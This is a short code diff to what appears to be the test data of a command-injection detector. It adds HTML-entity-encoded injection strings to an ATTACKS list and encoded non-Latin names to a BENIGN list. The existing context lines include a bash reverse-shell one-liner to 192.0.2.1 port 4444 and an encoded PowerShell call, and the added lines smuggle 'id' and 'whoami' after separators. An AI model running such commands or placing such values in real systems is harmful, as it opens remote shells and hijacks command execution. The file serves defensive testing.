@@ -28,6 +28,8 @@ ATTACKS = [
     ("bash -i >& /dev/tcp/192.0.2.1/4444 0>&1", "shell construct"),
     ("cmd /c dir", "shell construct"),
     ("powershell -enc SQBFAFgA", "shell construct"),
+    ("x&#59;id", "';' then command id"),
+    ("a&#x7c;&#x7c; whoami", "'||' then command whoami"),
 ]
 
 BENIGN = [
@@ -44,6 +46,10 @@ BENIGN = [
     "Q&A",
     "hours: 9-5 | weekends closed",
     "salt; pepper; more salt",
+    "W&#261;growiec",
+    "&#21271;&#20140;&#24066;w&#24231; 5&#21495;",
+    "Ma&#322;gorzata &amp; W&#281;grzyn",
+    "&#x5317;W&#x5ea7;",
 ]
 
 
